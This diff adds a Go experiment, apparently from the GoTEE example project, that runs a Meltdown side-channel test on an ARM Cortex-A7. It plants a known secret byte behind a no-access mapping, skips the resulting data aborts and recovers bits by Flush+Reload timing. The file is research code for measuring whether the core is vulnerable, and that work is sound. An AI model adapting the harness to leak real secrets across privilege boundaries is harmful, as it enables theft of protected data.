@@ -0,0 +1,145 @@
+// Copyright (c) The GoTEE authors. All Rights Reserved.
+//
+// Use of this source code is governed by the license
+// that can be found in the LICENSE file.
+
+//go:build tamago && arm
+
+package gotee
+
+import (
+	"math/bits"
+	"unsafe"
+
+	"github.com/usbarmory/tamago/arm"
+
+	"github.com/usbarmory/GoTEE-example/internal/sidechannel"
+)
+
+const (
+	// probe buffer stride, must match meltdownRead
+	meltdownStride = 512
+	// number of leak attempts per trial
+	meltdownAttempts = 10
+	// number of trials
+	meltdownTrials = 16
+	// secret byte placed in the trusted OS region (ground truth)
+	meltdownSecret = 0xa5
+)
+
+// Meltdown gadget and abort handler
+//
+//go:nosplit
+func skipAbort()
+
+//go:nosplit
+func meltdownRead(addr uint32, probe uint32)
+
+// MeltdownResult represents the outcome of a Meltdown experiment run.
+type MeltdownResult struct {
+	// Threshold is the hit/miss classification threshold (in CPU cycles)
+	Threshold float64
+	// Secret is the secret byte (ground truth)
+	Secret byte
+	// Leaked are the per-trial recovered bytes
+	Leaked []byte
+	// Hits is the number of trials with at least one probe hit
+	Hits int
+	// Correct is the number of correctly recovered bits
+	Correct int
+	// Accuracy is the bit recovery accuracy percentage (~50% when the
+	// core is not vulnerable)
+	Accuracy float64
+}
+
+func init() {
+	RegisterExperiment(Experiment{
+		Name: "meltdown",
+		Help: "Meltdown cross-boundary read",
+		Run: func(cpu *arm.CPU, _ CacheTimerConfig) (any, error) {
+			return MeltdownDemo(cpu)
+		},
+	})
+}
+
+// MeltdownDemo attempts a Meltdown (rogue data cache load) attack against a
+// secret byte placed in the trusted OS region and aliased, at page zero, by a
+// mapping denying any access. The value speculatively loaded before the
+// permission fault is retired, if any, is recovered through Flush+Reload on a
+// probe buffer.
+//
+// The Cortex-A7 is an in-order core, which is not expected to forward data
+// from a faulting load, a bit accuracy near 50% is therefore the expected
+// (negative) result.
+func MeltdownDemo(cpu *arm.CPU) (r MeltdownResult, err error) {
+	calib, err := RunCacheTimer(cpu, DefaultCacheTimerConfig())
+
+	if err != nil {
+		return
+	}
+
+	logf(LogNormal, "================= Meltdown Cross-Boundary Read Demo =================")
+
+	pmu := NewPMU()
+	r.Threshold = calib.Threshold
+	r.Secret = meltdownSecret
+
+	secret := make([]byte, l1d(cpu).lineSize)
+	secret[0] = r.Secret
+
+	probe := make([]byte, 256*meltdownStride)
+
+	// alias the secret section at page zero without any access permission
+	pa := uint32(uintptr(unsafe.Pointer(&secret[0])))
+	addr := pa & 0xfffff
+	z := uint32(1 << 20)
+
+	cpu.ConfigureMMU(0, z, pa&^0xfffff, arm.TTE_AP_000<<10|arm.TTE_CACHEABLE|arm.TTE_BUFFERABLE|arm.TTE_SECTION|arm.TTE_EXECUTE_NEVER)
+	defer cpu.ConfigureMMU(0, z, 0, 0)
+
+	// resume after the faulting load rather than panicking
+	vt := arm.SystemVectorTable()
+	vt.DataAbort = skipAbort
+
+	cpu.SetVectorTable(vt)
+	defer cpu.SetVectorTable(arm.SystemVectorTable())
+
+	logf(LogNormal, "Secret %#02x at %#08x (no access alias at %#08x)", r.Secret, pa, addr)
+	logf(LogNormal, "Threshold: %.2f CPU cycles", r.Threshold)
+
+	for trial := 0; trial < meltdownTrials; trial++ {
+		var scores [256]int
+
+		for attempt := 0; attempt < meltdownAttempts; attempt++ {
+			flushProbe(probe, meltdownStride)
+
+			// bring the secret into the cache through its legitimate
+			// mapping
+			_ = sidechannel.Access(&secret[0])
+			dsb()
+
+			meltdownRead(addr, uint32(uintptr(unsafe.Pointer(&probe[0]))))
+
+			reloadProbe(pmu, probe, meltdownStride, r.Threshold, &scores)
+		}
+
+		leaked := bestScore(&scores, -1)
+
+		if scores[leaked] > 0 {
+			r.Hits++
+		}
+
+		r.Leaked = append(r.Leaked, leaked)
+		r.Correct += 8 - bits.OnesCount8(leaked^r.Secret)
+
+		logf(LogDebug, "  Trial %2d: leaked %#02x (%d/%d hits), actual %#02x",
+			trial, leaked, scores[leaked], meltdownAttempts, r.Secret)
+	}
+
+	r.Accuracy = float64(r.Correct) / float64(8*meltdownTrials) * 100.0
+
+	logf(LogQuiet, "\nMeltdown bit accuracy: %d/%d (%.1f%%), %d/%d trials with probe hits",
+		r.Correct, 8*meltdownTrials, r.Accuracy, r.Hits, meltdownTrials)
+
+	return
+}